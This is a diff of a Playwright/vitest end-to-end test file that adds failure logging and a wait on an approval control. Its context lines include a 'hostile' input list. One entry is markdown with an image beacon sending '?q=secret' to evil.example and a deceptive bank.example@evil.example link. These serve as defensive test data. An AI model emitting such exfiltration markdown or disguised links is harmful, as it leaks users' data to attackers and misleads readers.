@@ -2,7 +2,7 @@
 import { readFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import type { Browser, Page } from 'playwright-core'
-import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
+import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest'
 import { axe, startBrowser, type Visitor, visit } from './browser.ts'
 import { type DigestModel, digestOf, saved, startDigestModel } from './digest.ts'
 import { type Instance, showWhenFailed, startInstance } from './instance.ts'
@@ -17,6 +17,9 @@ let browser: Browser
 let owner: Visitor
 let page: Page
 showWhenFailed(() => house)
+beforeEach(({ onTestFailed }) =>
+  onTestFailed(async () => console.error(`${page?.url()}\n${await page?.locator('body').textContent()}`)),
+)
 
 const hostile = [
   'See ![a picture](https://evil.example/pixel.png?q=secret) and [the notes](https://bank.example@evil.example/notes).',
@@ -89,6 +92,7 @@ describe('a first visit', () => {
     const card = page.getByRole('article', { name: /wants to write/ })
     await card.waitFor()
     expect(await card.getByText('pasted').count()).toBeGreaterThan(0)
+    await card.locator('.approve[aria-disabled="false"]').waitFor()
     await card.getByRole('button', { name: /Deny/ }).focus()
     await page.keyboard.press('a')
     await page.getByRole('heading', { name: 'All three done' }).waitFor()
